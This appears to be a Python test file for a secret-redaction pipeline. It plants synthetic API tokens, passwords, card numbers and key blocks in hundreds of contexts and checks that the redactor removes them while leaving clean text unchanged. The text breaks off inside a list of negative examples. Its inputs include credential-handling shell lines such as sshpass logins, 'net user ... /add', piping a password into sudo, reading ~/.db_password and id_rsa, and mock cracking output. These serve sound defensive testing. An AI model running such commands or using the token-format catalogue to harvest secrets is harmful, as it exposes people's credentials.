"""Redaction: every planted secret is gone, clean text stays as it is, and placeholders are stable."""

import base64
import html
import json
import random
import re
import string
import time
import uuid
from collections import Counter
from collections.abc import Callable
from functools import partial
from pathlib import Path
from typing import Any
from urllib.parse import quote

import orjson
import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from grokora_pipeline.sessions import table
from grokora_pipeline.sessions.redaction import detectors, personal
from grokora_pipeline.sessions.redaction.audit import surviving_secrets
from grokora_pipeline.sessions.redaction.detectors import is_suspicious
from grokora_pipeline.sessions.redaction.memory import load_key
from grokora_pipeline.sessions.redaction.published import in_text
from grokora_pipeline.sessions.redaction.redactor import Redactor, TooDeepError, restore
from grokora_pipeline_tests.benchmarks import redaction as benchmark
from grokora_pipeline_tests.benchmarks import redaction_texts
from grokora_pipeline_tests.unit.session_logs import SHARED, call, run, tool_answer, turns, write_lines

LETTERS, UPPER, HEX = string.ascii_letters + string.digits, string.ascii_uppercase + string.digits, "0123456789abcdef"
Generator = Callable[[random.Random], str]


def _some(alphabet: str, length: int) -> Generator:
    return lambda rng: "".join(rng.choices(alphabet, k=length - 2)) + "a7"


def _after(prefix: str, alphabet: str, length: int) -> Generator:
    rest = _some(alphabet, length)
    return lambda rng: prefix + rest(rng)


def _card(rng: random.Random) -> str:
    digits = "4" + "".join(rng.choices(string.digits, k=14))
    return next(digits + check for check in string.digits if personal.luhn(digits + check))


def _iban(rng: random.Random) -> str:
    account = "".join(rng.choices(string.digits, k=15))
    return next(text for n in range(2, 99) if personal.iban(text := f"SI{n:02d}{account}"))


def _key_block(rng: random.Random) -> str:
    body = "\n".join("".join(rng.choices(LETTERS, k=64)) for _ in range(4))
    return f"-----BEGIN RSA PRIVATE KEY-----\n{body}\n-----END RSA PRIVATE KEY-----"


# a value that is secret wherever it stands
TOKENS: dict[str, Generator] = {
    "xai": _after("xai-", LETTERS, 60),
    "openai": _after("sk-", LETTERS, 48),
    "openai project": _after("sk-proj-", LETTERS, 64),
    "anthropic": _after("sk-ant-api03-", LETTERS, 80),
    "aws access key": lambda rng: "AKIA" + "".join(rng.choices(UPPER, k=16)),
    "github": _after("ghp_", LETTERS, 36),
    "github fine-grained": _after("github_pat_", LETTERS, 60),
    "gitlab": _after("glpat-", LETTERS, 20),
    "slack": lambda rng: f"xoxb-{rng.randrange(10**11)}-{rng.randrange(10**11)}-" + "".join(rng.choices(LETTERS, k=24)),
    "slack webhook": lambda rng: "https://hooks.slack.com/services/T00/B00/" + "".join(rng.choices(LETTERS, k=24)),
    "stripe live": _after("sk_live_", LETTERS, 24),
    "stripe test": _after("rk_test_", LETTERS, 24),
    "pinecone": _after("pcsk_", LETTERS, 60),
    "hugging face": _after("hf_", LETTERS, 34),
    "google": _after("AIza", LETTERS, 35),
    "sendgrid": lambda rng: f"SG.{_some(LETTERS, 22)(rng)}.{_some(LETTERS, 43)(rng)}",
    "npm": _after("npm_", LETTERS, 36),
    "pypi": _after("pypi-AgEIcHlwaS5vcmc", LETTERS, 80),
    "twilio": _after("SK", HEX, 32),
    "telegram": lambda rng: f"{rng.randrange(10**8, 10**9)}:{_some(LETTERS, 35)(rng)}",
    "groq": _after("gsk_", LETTERS, 52),
    "jwt": lambda rng: "eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiIxIn0." + "".join(rng.choices(LETTERS, k=43)),
    "private key": _key_block,
    "google refresh": _after("1//0", LETTERS, 60),
    "openai service": _after("sk-svcacct-", LETTERS + "_-", 74),
    "openrouter": _after("sk-or-v1-", HEX, 64),
    "deepseek": _after("sk-", HEX, 32),
    "replicate": _after("r8_", LETTERS, 37),
    "databricks": _after("dapi", HEX, 32),
    "digitalocean": _after("dop_v1_", HEX, 64),
    "supabase": _after("sb_secret_", LETTERS, 31),
    "mailgun": _after("key-", HEX, 32),
    "atlassian": _after("ATATT3xFfGF0", LETTERS, 170),
    "linear": _after("lin_api_", LETTERS, 40),
    "notion": _after("secret_", LETTERS, 43),
    "figma": _after("figd_", LETTERS, 40),
    "shopify": _after("shpat_", HEX, 32),
    "heroku": _after("HRKU-", LETTERS, 60),
    "square": _after("EAAA", LETTERS, 60),
    "terraform": lambda rng: f"{_some(LETTERS, 14)(rng)}.atlasv1.{_some(LETTERS, 67)(rng)}",
    "vault": _after("hvs.", LETTERS, 90),
    "grafana": _after("glsa_", LETTERS, 32),
    "elevenlabs": _after("sk_", HEX, 48),
    "azure client": lambda rng: f"{_some(LETTERS, 3)(rng)}8Q~{_some(LETTERS, 34)(rng)}",
    "bcrypt": lambda rng: "$2b$12$" + "".join(rng.choices(LETTERS + "./", k=53)),
    "nobody's key": _after("zzq_", LETTERS, 48),
    "e-mail": lambda rng: f"{''.join(rng.choices(string.ascii_lowercase, k=8))}.novak@podjetje.example.si",
    "phone": lambda rng: f"+386 {rng.randrange(30, 70)} {rng.randrange(100, 999)} {rng.randrange(100, 999)}",
    "credit card": _card,
    "iban": _iban,
    "ipv6 address": lambda rng: f"2001:db8:{rng.randrange(16**4):x}::{rng.randrange(4096, 16**4):x}:7334",
    "ip address": lambda rng: (
        f"{rng.randrange(128, 200)}.{rng.randrange(256)}.{rng.randrange(256)}.{rng.randrange(1, 255)}"
    ),
}
TOKEN_CONTEXTS = (
    "use {0} now",
    "export THE_THING={0}",
    '{{"value": "{0}"}}',
    "curl -H 'x: {0}' host",
    "{0}",
    "found ({0}).",
)
# (what is planted around the secret, how the secret is made)
CONTEXTS: dict[str, tuple[str, Generator]] = {
    "password assignment": ("DB_PASSWORD={0}", _some(LETTERS, 12)),
    "password in yaml": ("password: {0}\n", _some(LETTERS, 10)),
    "password in quotes": ("db_passwd = '{0}'", _some(LETTERS, 9)),
    "password in json": ('{{"user": "bob", "password": "{0}"}}', _some(string.ascii_lowercase, 8)),
    "password spoken": ("the password is {0}, keep it", _some(LETTERS, 9)),
    "secret in env": ("CLIENT_SECRET={0}", _some(LETTERS, 24)),
    "token in env": ("SERVICE_TOKEN={0}", _some(HEX, 40)),
    "api key in env": ("WEATHER_API_KEY={0}", _some(HEX, 32)),
    "aws secret key": ('aws_secret_access_key = "{0}"', _some(LETTERS + "/+", 40)),
    "basic auth": ("git clone https://bob:{0}@git.example.org/x.git", _some(LETTERS, 12)),
    "database url": ("postgres://app:{0}@10.0.0.5:5432/db", _some(LETTERS, 12)),
    "redis url": ("redis://:{0}@cache.example.org", _some(LETTERS, 16)),
    "bearer": ("Authorization: Bearer {0}", _some(LETTERS, 32)),
    "high entropy": ('the signature "{0}" was sent', _some(LETTERS, 40)),
    "azure key": ("AccountKey={0}==;EndpointSuffix=core", _some(LETTERS, 86)),
    "aws pair": ("AKIAIOSFODNN7EXAMPLE : {0}", _some(LETTERS, 40)),
    "aws pair in json": ('{{"AccessKeyId": "x", "SecretAccessKey": "{0}"}}', _some(LETTERS + "/+", 40)),
    "aws csv": ("Access key ID,Secret access key\nAKIAIOSFODNN7EXAMPLE,{0}", _some(LETTERS, 40)),
    "heroku uuid": ("HEROKU_API_KEY={0}", lambda rng: str(uuid.UUID(int=rng.getrandbits(128)))),
    "azure sas": ("https://x.blob.core.windows.net/c?sv=2022-11-02&sig={0}%3D", _some(LETTERS, 43)),
    "discord webhook": ("https://discord.com/api/webhooks/1234567890/{0}", _some(LETTERS, 68)),
    "basic header": ("Authorization: Basic {0}=", _some(LETTERS, 20)),
    "basic header in json": ('{{"headers": {{"Authorization": "Basic {0}="}}}}', _some(LETTERS, 20)),
    "ssws header": ("authorization: SSWS {0}", _some(LETTERS, 42)),
    "api key header": ("curl -H 'api-key: {0}' host", _some(HEX, 32)),
    "cookie": ("curl -H 'Cookie: sessionid={0}; theme=dark' host", _some(LETTERS, 16)),
    "curl user": ("curl -u 'bob:{0}' host", _some(LETTERS, 12)),
    "flag": ("tool --password {0} --verbose", _some(LETTERS, 12)),
    "sshpass": ("sshpass -p {0} ssh bob@host", _some(LETTERS, 12)),
    "mysql": ("mysql -u root -p{0} shop", _some(LETTERS, 12)),
    "sudo": ("echo {0} | sudo -S ls", _some(LETTERS, 12)),
    "netrc": ("machine x login bob password {0}", _some(LETTERS, 12)),
    "docker env": ("ENV DB_PASSWORD {0}", _some(LETTERS, 12)),
    "xml": ("<password>{0}</password>", _some(LETTERS, 12)),
    "name and value": ('{{"name": "DB_PASSWORD", "value": "{0}"}}', _some(LETTERS, 12)),
    "call": ("os.environ.setdefault('DB_PASSWORD', '{0}')", _some(LETTERS, 12)),
    "typed constant": ('apiKey: string = "{0}"', _some(LETTERS, 24)),
    "german": ("Passwort: {0}", _some(LETTERS, 10)),
    "slovene": ("geslo: {0}", _some(LETTERS, 10)),
    "chinese": ("\u5bc6\u7801\uff1a{0}", _some(LETTERS, 10)),
    "in a url": ("https://x.org/login?user=bob&pass={0}", _some(LETTERS, 10)),
    "url-encoded": ("q=password%3D{0}%26x", _some(LETTERS, 10)),
    "unicode escapes": ("{{\\u0022password\\u0022:\\u0022{0}\\u0022}}", _some(LETTERS, 10)),
    "at in the password": ("postgresql://app:p@ss{0}@host/db", _some(LETTERS, 10)),
    "at in user and password": ("https://bob@example.com:p@ss{0}@git.example.org", _some(LETTERS, 10)),
    "a salt that begins like a call": ("define('AUTH_KEY', 'MW1(>M%0V #o0|2$K`J{0}^e_R');", _some(LETTERS, 10)),
    "mnemonic": ("seed phrase: {0}", lambda rng: " ".join(rng.choices(("wave", "legal", "sausage", "thank"), k=12))),
    "code that was sent": ("your verification code is {0}", lambda rng: str(rng.randrange(10**7, 10**8))),
    "environment in base64": (
        "echo {0} | base64 -d",
        lambda rng: base64.b64encode(f"DB_PASSWORD={_some(LETTERS, 12)(rng)}\nUSER=x\n".encode()).decode(),
    ),
    "coloured password": ("\x1b[1mpassword\x1b[0m: \x1b[33m{0}\x1b[0m", _some(LETTERS, 12)),
    "coloured key": ("\x1b[32msbp_{0}\x1b[0m", _some(HEX, 40)),
    "invisible characters": ("password\u200b:\u00a0\u200b{0}", _some(LETTERS, 12)),
    "letters beyond ascii in json": ('{{"note": "contrase\\u00f1a: {0}!"}}', _some(LETTERS, 9)),
    "arguments apart": ('["login", "--password", "{0}"]', _some(LETTERS, 12)),
    "arguments in python": ("run(['login', '--password', '{0}'])", _some(LETTERS, 12)),
    "pgpass": ("db.corp:5432:app:app_user:{0}", _some(LETTERS, 12)),
    "wifi": ('network={{\n ssid="Home"\n psk="{0}"\n}}', _some(LETTERS, 12)),
    "curl over lines": ("curl https://x \\\n  --user bob:{0} \\\n  -o f", _some(LETTERS, 12)),
    "ldap": ("ldapsearch -D cn=admin -w {0} -b dc=x", _some(LETTERS, 12)),
    "archive": ("unzip -P {0} a.zip", _some(LETTERS, 12)),
    "net user": ("net user bob {0} /add", _some(LETTERS, 12)),
    "remote desktop": ("xfreerdp /u:bob /p:{0} /v:srv", _some(LETTERS, 12)),
    "smb": ("smbclient //srv/x -U bob%{0}", _some(LETTERS, 12)),
    "openssl": ("openssl rsa -in k.pem -passin pass:{0}", _some(LETTERS, 12)),
    "sql user": ("CREATE USER 'a'@'%' IDENTIFIED BY '{0}';", _some(LETTERS, 12)),
    "kubernetes": ("env:\n- name: DB_PASSWORD\n  value: {0}\n", _some(LETTERS, 12)),
    "html": ('<input type="password" name="pw" value="{0}">', _some(LETTERS, 12)),
    "typed": ('type "{0}" into the password field', _some(LETTERS, 10)),
    "used": ("use {0} as the password", _some(LETTERS, 12)),
    "typed by a program": ('pyautogui.typewrite("{0}")  # password', _some(LETTERS, 12)),
    "publisher": ("mosquitto_pub -u bob -P {0} -t x", _some(LETTERS, 12)),
    "token for a user": ("https://{0}:x-oauth-basic@github.com/", _some(HEX, 40)),
    "croatian": ("lozinka: {0}", _some(LETTERS, 10)),
    "polish": ("has\u0142o: {0}", _some(LETTERS, 10)),
    "asked for": ("[sudo] password for bob: {0}", _some(LETTERS, 10)),
    "spoken german": ("Das Passwort lautet {0}", _some(LETTERS, 10)),
    "short name": ('smtp:\n  pass: "{0}"\n', _some(LETTERS, 10)),
    "webdriver": ('find_element("id","password").send_keys("{0}")', lambda rng: f"q7R{_some(HEX, 8)(rng)}Zk"),
    "table": ("username,password\nbob,{0}\n", lambda rng: f"q7R{_some(HEX, 8)(rng)}Zk"),
    "twilio pair": (f"Client('AC{'0a' * 16}', '{{0}}')", _some(HEX, 32)),
    "end of a key": ("tail id_rsa\n{0}\n-----END RSA PRIVATE KEY-----", _some(LETTERS + "+/", 64)),
    "owner of a file": ("drwxr-xr-x 5 {0} {0} 4096 Nov 10 notes", _some(string.ascii_lowercase, 9)),
    "home folder": ("ls /home/{0}/vault", _some(string.ascii_lowercase, 9)),
    "home on windows": ("dir C:\\Users\\{0}\\Documents", _some(string.ascii_lowercase, 9)),
}


def planted(seed: int, each: int) -> list[tuple[str, str, str]]:
    """(kind, secret, text that holds it)"""
    rng = random.Random(seed)
    found = []
    for number in range(each):
        for kind, make in TOKENS.items():
            secret = make(rng)
            found.append((kind, secret, TOKEN_CONTEXTS[number % len(TOKEN_CONTEXTS)].format(secret)))
        for kind, (context, make) in CONTEXTS.items():
            secret = make(rng)
            found.append((kind, secret, context.format(secret)))
    return found


def test_no_planted_secret_reaches_the_store(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    secrets = planted(seed=5, each=14)
    assert len(secrets) >= 500
    assert len({kind for kind, _, _ in secrets}) >= 20
    lines = []
    for number, (_, _, text) in enumerate(secrets):
        lines.append(call(f"s{number}", 0, f"Look: {text}\nthen go on", "I see.", task=f"deal with {text}"))
        result = orjson.dumps({"status": "success", "stdout": text}).decode()
        shell = call(f"t{number}", 0, "x", tool_answer("bash", {"command": f'echo "{text}"', "note": text}))
        shell["request"]["messages"].append({"role": "tool", "tool_call_id": "c", "content": result})
        shell["request"]["messages"].append({"role": "user", "content": repr({"stdout": text})})
        lines.append(shell)
    write_lines(tmp_path / "logs" / "a.jsonl", lines)
    report = run(tmp_path / "logs", tmp_path / "out")
    stored = "\n".join(orjson.dumps(turn).decode() for turn in turns(tmp_path / "out"))
    stored += (tmp_path / "out" / "manifest.json").read_text(encoding="utf-8")
    total, missed = Counter(kind for kind, _, _ in secrets), Counter[str]()
    for kind, secret, _ in secrets:
        missed[kind] += any(part in stored for part in secret.split("\n") if not part.startswith("-----"))
    with capsys.disabled():
        print("\n" + "\n".join(f"  {kind:22} {total[kind] - missed[kind]:3} of {total[kind]}" for kind in total))
    assert report.turns == 2 * len(secrets)
    assert +missed == Counter()
    for turn in turns(tmp_path / "out"):
        for tool_call in orjson.loads(turn["completion"]).get("tool_calls", []):
            assert isinstance(orjson.loads(tool_call["function"]["arguments"]), dict)


@pytest.mark.skipif(not (SHARED / "data" / "screenagent").is_dir(), reason="needs ../shared/data/screenagent")
def test_real_recordings_without_secrets_are_hardly_altered(tmp_path: Path) -> None:
    report = run(SHARED / "data" / "screenagent", tmp_path / "out")
    altered = sum(turn["redactions"] != "{}" for turn in turns(tmp_path / "out"))
    assert report.turns == 3005
    assert altered / report.turns < 0.01


CLEAN = (
    "click (1051, 464) at 10:42:17, then scroll 3 and press enter",
    "version 4.57.1, build 10.0.19045, python 3.11.7, numpy==2.4.6",
    "2025-11-12T18:21:11.910332 1762971671.911775 1762971671911 order 12345678",
    "/home/user/grokputer/vault/*.png and 127.0.0.1:8000",
    "max_tokens: 4096, temperature: 0.7, the token is invalid, press any key",
    "Please enter your password. Password: required. Forgot password?",
    '{"type": "object", "properties": {"password": {"type": "string"}, "key": {"type": "string"}}}',
    "std::vector<int> a; ratio 16:9; 3:10:02,ERROR; mac 00:1b:44:11:3a:b7",
    "task_key=notes session 7410b4e9d51a4350a33186cb975264e5 commit 67bfefc0",
    "password=$DB_PASSWORD token=${TOKEN} api_key=os.environ['KEY'] secret: <your secret>",
    "The secret to success is practice; the key idea is simple: token by token",
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 Chrome/120.0.0.0 Safari/537.36; package==1.2.3.4",
    "chapter 3.2.1.4, section 10.2.3.1, order no. 100200300400, 1762971671911775123, ISBN 978-3-16-148410-0",
    "sha256: e3b0c44298fc1c149afbf4c8996fb92427ae41e4649b934ca495991b7852b855, 550e8400-e29b-41d4-a716-446655440000",
    "if password == confirm_password: return True\nself.password = password\nx = getpass.getpass('Password: ')",
    "git@github.com:zejzl/grokputer.git and https://github.com/zejzl/grokputer/blob/67bfefc0a1b2c3d4e5f60718293a4b5c6d7e8f90",
    "call_AbC123xYz456DeF789gHi012 chatcmpl-9abcDEF123ghiJKL456mnoPQR789 toolu_01A09q90qw90lq917835lq9",
    "Qwen3OmniMoeThinkerTextPreTrainedModel XMLHttpRequest2Factory test_UserServiceImplV2IntegrationTest3",
    "libssl1.1_1.1.1f-1ubuntu2.20_amd64.deb _multiarray_umath.cpython-311-x86_64-linux-gnu.so IMG_20251112_182111.png",
    "M18 14H2V6h12v8zm0-9H2V2h12v3zm2-3H1C0v12h2v-2h2v2z; base64 aGVsbG8gd29ybGQgdGhpcyBpcyBhIGxvbmcgdGV4dA==",
    "Password: \u2022\u2022\u2022\u2022; the password field; set the password to a new value; Secretary: John",
    "--password-stdin; docker run -u 1000:1000 -p 8080:80 x; redis-cli -p 6379; max_tokens: 4096; primary_key=True",
    "upgrade to 1.2.3.4; napi_get_last_error_info(env); the header identified by `name`",
    "stop_token_trained=all(row.weights[-1] > 0 and row.ids[-1] in stop_ids for row in rows)",
    "authorization = authorization.split(':'); self.user, self.password = user, password",
    "iPhone15ProMax near the password dialog of Chrome120; type the password into the password field, then press Enter",
    '{"name": "password", "type": "string", "value": ""} {"credentials": "include", "cookies": "enabled", "pin": true}',
)


@pytest.mark.parametrize("text", CLEAN)
def test_clean_text_stays_as_it_is(text: str) -> None:
    assert Redactor().redact(text) == (text, Counter())


def test_texts_of_two_hundred_kinds_that_hold_no_secret_stay() -> None:
    assert len(redaction_texts.CLEAN) >= 200
    altered = {kind for kind, text in redaction_texts.CLEAN.items() if Redactor().redact(text)[0] != text}
    assert len(altered) <= 2, altered


@pytest.mark.parametrize("carrier", list(benchmark.CARRIERS))
def test_keys_with_a_prefix_of_their_own_are_found_in_every_carrier(carrier: str) -> None:
    rng = random.Random(carrier)
    secrets = {kind: benchmark.filled(template, rng) for kind, template in redaction_texts.FORMATS.items()}
    carry = benchmark.CARRIERS[carrier]
    leaked = {
        kind
        for kind, secret in secrets.items()
        if benchmark.leaks(secret, benchmark.stored(carry(f"export THE_THING={secret}")))
    }
    assert len(leaked) <= 0.02 * len(secrets), leaked


@pytest.mark.parametrize("name", redaction_texts.NAMES)
def test_the_value_of_a_telling_name_is_found_however_it_is_assigned(name: str) -> None:
    rng = random.Random(len(name))
    leaked = []
    for form in redaction_texts.NAMED:
        secret = benchmark.filled("{A24}", rng)
        if benchmark.leaks(secret, benchmark.stored(form.format(name, secret))):
            leaked.append(form)
    assert leaked == []


def test_keys_behind_a_name_that_nobody_listed_are_found() -> None:
    rng = random.Random(27)
    secrets = [secret for _, secret in benchmark.invented(rng, 200)]
    leaked = [secret for secret in secrets if benchmark.leaks(secret, benchmark.stored(f"it shows {secret} there"))]
    assert len(leaked) <= 0.1 * len(secrets), leaked


SAID = r"""
spring.datasource.password=Madrid.Camino34
let password = String::from("{}");
props.put("mail.smtp.password", "{}");
password: >-\n    {}
ssh.connect('h', 22, 'bob', '{}')
new PasswordAuthentication("bob", "{}".toCharArray())
$pdo = new PDO('mysql:host=db', 'app', '{}');
WiFi.begin("HomeNet", "{}");
EXEC sp_addlinkedsrvlogin 's', 'false', NULL, 'sa', '{}';
page.type('input[name="pass"]', '{}')
browser_type(element="Password field", ref="e9", text="{}")
$ printf '%s' '{}' | sudo -S ls
$ kinit bob <<< '{}'
$ rclone obscure {}
$ bw unlock '{}' --raw
$ aws secretsmanager create-secret --name x --secret-string '{}'
$ az keyvault secret set --vault-name kv --name db --value '{}'
$ keytool -genkey -alias a -keypass {} -v
Key Content            : {}
a1 LOGIN bob@example.com "{}"
331 Please specify the password.\nPASS {}\n230 Login successful.
auth-user-pass inline:\nbob\n{}
user default on >{} ~* +@all
pre-shared-key ascii-text "{}"
<AutoLogon><Password><Value>{}</Value></Password></AutoLogon>
<wsse:Password Type="x#PasswordText">{}</wsse:Password>
INSERT INTO users (name, password) VALUES ('bob', '{}');
INSERT INTO settings VALUES ('smtp_password', '{}');
url,username,password\nhttps://x.example,anna,{}
| host | user | password |\n|---|---|---|\n| nas | anna | {} |
"user";"password"\n"anna";"{}"
 name | password\n------+----------\n bob  | {}
Using credentials deploy / {}
The login for the test shop is anna / {}
A temporary password is generated for root@localhost: {}
pw for the zip: {}
passphrase for key 'id_ed25519': {}
Please use the following password to go on:\n\n{}\n
password changed to {}
olcRootPW: {}
mdp: {}
conn.setPassword("{}")
keyring.set_password("svc", "bob", "{}")
await auth.signInWithEmailAndPassword(a, 'bob@x.example', '{}')
$ security unlock-keychain -p "{}" login.keychain
$ rabbitmqctl add_user bob '{}'
$ impdp system/{}@xe full=y
The password of the "anna" account was set to "{}".
I entered {} as password but the page says it is wrong.
Ihr Passwort wurde auf {} gesetzt
The credentials are anna and {}.
<setting name="Password" serializeAs="String"><value>{}</value></setting>
bob : EAP "{}"
"bob" * "{}" *
{"fields":[{"id":"username","value":"anna"},{"id":"password","value":"{}"}]}
{"Parameters":[{"ParameterKey":"DBPassword","ParameterValue":"{}"}]}
la clave del wifi es {}
usuario: ana, clave: {}
le code wifi c'est {}
WLAN-Schl\u00fcssel: {}
Kennwort f\u00fcr den Server: {}
a senha do wifi \u00e9 {}
has\u0142o to {}
l\u00f6senord: {}
\u53e3\u4ee4: {}
\u30d1\u30b9\u30ef\u30fc\u30c9\u306f {} \u3067\u3059
$ANSIBLE_VAULT;1.1;AES256\n  {}
$ signtool sign /f code.pfx /p {} /t http://ts.example app.exe
$ certutil -f -user -p {} -importpfx my.pfx
$ ldappasswd -s {} -D cn=admin uid=anna
$ snmpwalk -v3 -u bob -l authPriv -A aaaa -X '{}' 10.0.0.1
$ mysql -u root -p"{}" shop
$ youtube-dl -u bob -p {} https://v.example/1
$ veracrypt -t -p {} vol.hc /mnt
$ swaks --to a@b.example -au bob -ap {}
$ pdftk a.pdf input_pw {} output b.pdf
$ virsh set-user-password vm1 root {}
$ htpasswd -nb bob '{}'
$ zfs load-key tank/x <<< {}
$ echo {} | kinit bob
$ lftp -u bob,{} sftp://files.example
expect "assword:"\nsend "{}\\r"
AUTH LOGIN\n334 UGFzc3dvcmQ6\n{}
radius-server host 10.0.0.1 key {}
basic_auth = ["bob", "{}"]
new Sequelize('shop', 'root', '{}', {dialect: 'mysql'})
[System.Net.NetworkCredential]::new("bob", "{}")
jwt.sign(payload, "{}")
KeyStore.load(file, "{}".toCharArray())
ConvertTo-SecureString -AsPlainText '{}' -Force
  password                   = "{}"
**Password**: `{}`
corp.local/bob:{}@10.0.0.5
You can sign in as anna using {}.
{} is the password
it is {} (the database password)
Utilise {} comme mot de passe
usa {} como contrase\u00f1a
Bitte gib als Passwort {} ein
\u015eifre: {}
\u043f\u0430\u0440\u043e\u043b\u044c \u043e\u0442 \u0441\u0435\u0440\u0432\u0435\u0440\u0430 {}
\u039f \u03ba\u03c9\u03b4\u03b9\u03ba\u03cc\u03c2 \u03b5\u03af\u03bd\u03b1\u03b9 {}
\u05d4\u05e1\u05d9\u05e1\u05de\u05d4 \u05d4\u05d9\u05d0 {}
\u0e23\u0e2b\u0e31\u0e2a\u0e1c\u0e48\u0e32\u0e19\u0e04\u0e37\u0e2d {}
M\u1eadt kh\u1ea9u l\u00e0 {}
\u041b\u043e\u0437\u0438\u043d\u043a\u0430: {}
$ cat ~/.db_password\n{}
>>> cfg["db_password"]\n'{}'
$ pass show web/shop\n{}\nuser: bob
resource "random_password" "db" {\n    result = "{}"
type(text="{}", field="password")
def get_password():\n    return "{}"
Dim strPassword As String = "{}"
child.expect('assword:'); child.sendline('{}')
Driver=SQL;UID=sa;PWD={{}};
the pw for the vpn is {}
Initial password for bob (also in /var/lib/x): {}
$ caddy hash-password --plaintext '{}'
$ mc alias set m http://m:9000 admin {}
spring.security.user.password={noop}{}
##vso[task.setvariable variable=x;issecret=true]{}
if pw != "{}": raise
client.auth("bob", "{}")
The password field now contains "{}".
File: password.txt\n---\n{}
KEY FOUND! [ {} ]
set password for bob to {}
credentials (bob / {}) worked
$ read -s PW <<< "{}"
Password [none]: {}
password> {}
<password><![CDATA[{}]]></password>
my $password = q{{}};
passwords = %w[{} x]
local password = [[{}]]
passwords = ["x1", "{}"]
passwords:\n  - {}\n  - x
array(1) {\n  ["password"]=>\n  string(12) "{}"\n}
public string Password { get; set; } = "{}";
p.add_argument('--password', default='{}')
<tr><td>root pwd</td><td>{}</td></tr>
Content-Disposition: form-data; name="password"\n\n{}\n--x
+----+----------+\n| id | password |\n+----+----------+\n|  1 | {} |\n+----+----------+
Loaded 1 password hash\n{}      (bob)\n1g 0:00:01 DONE
bob:{}:1000:1000::/home/bob:/bin/sh
the smtp pass is {}
PASSWORD: ${{ secrets.X || '{}' }}
const [dbPassword, set] = useState('{}');
password:\n  type: string\n  example: {}\n
    Password    REG_SZ    {}
    Key Content            : {}
echo "bob:{}" | sudo chpasswd
Created user bob with password {}
I changed the app secret to {} yesterday
\u2714 Password \u2026 {}
Set `password` to `{}`.
\\newcommand{\\dbPassword}{{}}
ds.setUserPasswd("{}");
Client.builder().user("bob").smtpPass("{}").build()
C:\\> echo %DB_PASSWORD%\r\n{}\r\n
3) "db_password"\n4) "{}"
\u2502 password \u2502 {} \u2502
PASSWORD=$'{}' ./x
netsh wlan set hostednetwork mode=allow ssid=x key="{}"
? Root password {}\n? Continue? Yes
set password {{}}
{"path": "/run/secrets/db_password", "content": "{}"}
mit dem Passwort \u201e{}\u201c
mot de passe \u00ab {} \u00bb
"""


def test_passwords_are_found_as_tools_and_people_write_them() -> None:
    leaked = []
    for number, line in enumerate(SAID.strip("\n").split("\n")):
        text = line.encode("latin-1", "backslashreplace").decode("unicode_escape").replace("\\n", "\n")
        rng = random.Random(number)
        secret = benchmark.filled(
            "{h64}" if "VAULT" in line else rng.choice(("q{A9}7w", "Sommer-{d4}", "pepper{d4}")), rng
        )
        secret = "Madrid.Camino34" if "{}" not in text else secret
        if benchmark.leaks(secret, benchmark.stored(text.replace("{}", secret))):
            leaked.append(text)
    assert leaked == []


TABLES = [
    "id;Benutzer;Kennwort\n1;bob;{}\n2;eve;{}",
    '"Account","Login Name","Password"\n"Bank, Ltd","bob","{}"\n"Shop","eve","{}"',
    "| **Site** | **User** | **Password** |\n|:---|:---|:---|\n| [a](http://a.example) | bob | `{}` |\n| b | - | {} |",
    "======= ====== =================\nService User   Password\n======= ====== =================\nGrafana bob    {}\n",
    "USER        PASSWORD              ROLE\nbob         {}  admin\n",
    " id | login | passwd\n----+-------+--------\n  1 | bob   | {}\n(1 row)",
    "<table><tr><th>Site</th><th>User</th><th>Password</th></tr><tr><td>a</td><td>bob</td><td>{}</td></tr></table>",
    "====== Data ======\nKey         Value\n---         -----\npassword    {}\nusername    bob",
    "| Field | Value |\n|---|---|\n| Host | db1 |\n| Password | {} |",
    "INSERT INTO users (id, login, password) VALUES (1, 'bob', '{}');",
    "chpasswd <<EOF\nroot:{}\nEOF",
]
LISTS = [  # where a plain word may as well be a name
    "bobby: x\n\nlogins:\n- mail bob {}\n- vpn bob {}",
    "USERS = {{\n    'bob': '{}',\n    'eve': '{}',\n}}\n",
]


@pytest.mark.parametrize(
    ("form", "secret"),
    [(form, secret) for secret in ("Sommer-2017", "garden.lantern.42") for form in TABLES + LISTS]
    + [(form, "purplefalcon") for form in TABLES],
)
def test_what_a_heading_calls_a_password_is_found_below_it_in_any_notation(form: str, secret: str) -> None:
    text = form.replace("{}", secret).replace("{{", "{").replace("}}", "}")
    redacted = Redactor().redact(text)[0]
    assert secret not in redacted
    assert redacted.count("<SECRET:") == form.count("{}")
    assert redacted.count("\n") == text.count("\n")


ASKED = r"""
what's the password for staging?\nalice: {}
<bob> pass? <alice> {}
pw (work) {}
dad's pc: {} (login pw)
TODO rotate the prod pw (currently {})
[password] {}
password|{}
the root pw on mail.example.org is still {}
iDRAC: root / {}
log in with `admin` / `{}`
staging basic auth is deploy:{}
Default admin credentials: **bob** / **{}**
just type {} when it asks for the password
the password field is empty, so I will enter {} there
Password for the [elastic] user successfully reset.\nNew value: {}
reg add "HKLM\SOFTWARE\X" /v DefaultPassword /t REG_SZ /d {} /f
printf "{}" | docker secret create db_pass -
(echo {}; echo {}) | smbpasswd -s -a bob
mkstore -wrl . -createCredential PROD bob {}
ACL SETUSER bob on >{} ~* +@all
/msg NickServ IDENTIFY {}
bob l2tpd "{}" *
password: <%= ENV['X'] || '{}' %>
hashed = bcrypt.hashpw(b'{}', bcrypt.gensalt())
smtp.PlainAuth("", "bob@example.org", "{}", "smtp.example.org")
ssh.connect('db1.example.org', 22, 'postgres', '{}')
aaa-server RAD host 10.0.0.5\n key {}
the zip is encrypted, extract it with {}.
unlock the disk with: {}
gmail: bob@gmail.com {}
the secret is {}
le mdp du wifi c'est {}
clave de acceso {}
"""


def test_passwords_are_found_in_questions_answers_notes_and_less_known_commands() -> None:
    texts = [line.replace("\\n", "\n").replace("{}", "Sommer-2017!") for line in ASKED.strip("\n").split("\n")]
    assert [text for text in texts if "Sommer-2017" in Redactor().redact(text)[0]] == []


NOT_ASKED = r"""
Did you forget your password? Try again.
what is the pin?\nuser: I don't know
If it asks for a password, enter the one you chose.
The password is required. The passphrase is optional.\nThe password is plaintext.
passwords default to the value of the environment variable
Log in with GitHub / GitLab; log in as admin / editor to test roles
Sign in with Google and Microsoft accounts
pin changed to input mode; set the GPIO pin to 1 and the frequency to 2400 Hz
unlock with FaceID2; open it with Chrome120; decrypt the file with gpg2
